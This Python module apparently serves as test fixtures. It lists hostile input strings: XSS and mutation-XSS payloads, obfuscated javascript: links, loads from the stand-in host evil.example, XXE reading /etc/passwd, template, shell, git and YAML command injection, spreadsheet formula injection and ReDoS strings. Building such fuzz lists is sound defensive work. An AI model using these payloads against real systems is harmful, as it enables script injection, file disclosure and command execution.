"""Strings that some program on the way might obey: the browser, Markdown, Jinja, XML, JSON, YAML, a shell, a terminal."""

CANARY = "hacked"
"""What the strings try to set on the page's window."""
_RUN = f"window.{CANARY}=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f"</title><script>{_RUN}</script>",
    f"</textarea></style></script><script>{_RUN}</script>",
    f"</head></body><script>{_RUN}</script>",
    f"--></script><!--<script>{_RUN}//",
    f"<!--<script>{_RUN}</script>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
    f"<details open ontoggle={_RUN}><summary>x",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s><set onend={_RUN}>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a><foreignObject><body onload={_RUN}>",
    f"<x onclick={_RUN} onfocus={_RUN} autofocus tabindex=1 style=animation-name:x onanimationstart={_RUN}>",
    f"<object data=javascript:{_RUN}></object><embed src=javascript:{_RUN}><isindex action=javascript:{_RUN}>",
    f"<dialog open><form method=dialog><button formaction=javascript:{_RUN} popovertarget=x>",
    "<plaintext><xmp><noembed><listing>",
)
"""Elements and handlers."""
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<template><s><template><s><img src=x onerror={_RUN}>@</s></template>",
    f"<!--x--!><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]><?php <img src=x onerror={_RUN}> ?>",
    f"<select><template><img src=x onerror={_RUN}></select><table><td><img src=x onerror={_RUN}>",
    f"<a title='<b title=\"' x=\"'><img src=x onerror={_RUN}>\">",
)
"""What means something else when it is read a second time, or in another place."""
LINKS = (
    f"javascript:{_RUN}",
    f"java\tscript:{_RUN}//",
    f"[link](javascript:{_RUN})",
    f'![p](x" onerror="{_RUN})',
    f"<a href=jav&#x09;ascript:{_RUN}>x</a>",
    f"<javascript:{_RUN}>",
    f"[r]: javascript:{_RUN} '{_RUN}'",
    f"[x](javascript&colon;{_RUN}) [y](&#106;avascript&#58;{_RUN}) [z](JaVaScRiPt:{_RUN})",
    f"[x](\x01javascript:{_RUN}) [y](java\u200bscript:{_RUN}) [z](javaſcript:{_RUN}) [w](ｊavascript:{_RUN})",
    f"[x](<java\\script:{_RUN}>) [y](%6aavascript:{_RUN}) [z](feed:javascript:{_RUN})",
    f"[x](vbscript:{_RUN}) [y](data:text/html,<script>{_RUN}</script>) [z](view-source:file:///etc/passwd)",
    f'[x](https://a.example/ \'y" onclick="{_RUN}\') [y](https://a.example/"onclick="{_RUN})',
    f'<https://a.example/"onclick="{_RUN}> <data:text/html,{_RUN}> <x@y.example"onclick="{_RUN}>',
    f'![" onerror="{_RUN}](images/a.png) ![x](images/a.png " onerror={_RUN}") ![y](images/../../a.png)',
    f"*[*](javascript:{_RUN})* **[x](javascript:`{_RUN}`)** [[x](javascript:{_RUN})](https://a.example/)",
    f"{{: onclick={_RUN} }} {{#x onclick={_RUN}}}",
)
"""Addresses, and Markdown that makes them."""
OUTSIDE = (
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/y)}</style>",
    "x');background:url(//evil.example/z)}*{content:'",
    "<form action=//evil.example/><button>x</button></form><object data=//evil.example/></object>",
    "![x](//evil.example/a.png) ![y](https://evil.example/b.png) <img src=//evil.example/c.png>",
    "<img srcset='//evil.example/s.png 1x'><video poster=//evil.example/p.png><input type=image src=//evil.example/i>",
    "<link rel=preload as=image href=//evil.example/i.png><link rel=dns-prefetch href=//evil.example/>",
    "<a href=x ping=//evil.example/>x</a><svg><image href=//evil.example/v.svg /><use href='//evil.example/u.svg#x'/>",
)
"""What would ask another host for something."""
UNICODE = (
    "\u202e\u2066gnp.exe\u2069",
    f"＜script＞{_RUN}＜／script＞＂＞＜img src=x onerror={_RUN}＞",
    f"<ſcript>{_RUN}</ſcript> <ſvg onload={_RUN}> <ımg src=x onerror={_RUN}>",
    f"'\u2028{_RUN}\u2029//\u0085{_RUN}//",
    f"\ufeff<\u200bscript>{_RUN}</\u200bscript>\u00ad\u034f\u2060",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "\x1b]0;title\x07\x1b[2J\x1b[31m\x9b1;1H\x08\x7f\x0b\x0c\x1c",
    "\ufffe\uffff\U0001fffe\U0010ffff\ue000\ufdd0",
    "Z̸̢̛͎" * 60,
    "龘" * 300,
)
"""What is not the character that it seems, or none at all."""
MACHINES = (
    f"{{{{ ''.__class__.__mro__ }}}}{{% set x = 1 %}}{{# {_RUN} #}}",
    f"${{{{7*7}}}} #{{7*7}} <%= 7*7 %> {{% endraw %}} {{% include '/etc/passwd' %}} `${{{_RUN}}}`",
    f"]]></content><script>{_RUN}</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    f"</xhtml:div><x xmlns='http://www.w3.org/1999/xhtml'><script>{_RUN}</script></x>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"*/{_RUN}/* \\');{_RUN};// \\\\\");{_RUN};//",
    f"__proto__ constructor toString {_RUN}",
    "&a;&#x0;&#xD800;&nbsp",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "CON",
    "aux.md",
    ".git/config",
    "-rf --output=/tmp/x --upload-pack=/tmp/x $(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | true",
    "ext::sh -c touch% /tmp/x",
    "::error file=x::y %0A::set-output name=x::y ${{ secrets.TOKEN }}",
    "%00%0a%0d%2e%2e%2f",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\\begin{x}\\input{/etc/passwd}",
    "#:~:text=<script>&x=1#?q=%22%3E",
    "!!python/object/apply:os.system ['touch /tmp/x'] &a [*a, *a] <<: *a",
)
"""Of templates, XML, JSON, scripts, files, shells, git, workflows, spreadsheets, TeX, addresses, YAML."""
MUCH = (
    "A" * 300,
    "*" * 200 + "x" + "*" * 200,
    "[" * 200 + "x" + "](y)" * 200,
    "0" * 400,
    "(a+)+$" + "a" * 300 + "! " + "a*" * 50 + "[" * 50,
)
"""What asks for time."""
STRINGS = (*MARKUP, *MUTATIONS, *LINKS, *OUTSIDE, *UNICODE, *MACHINES, *MUCH)
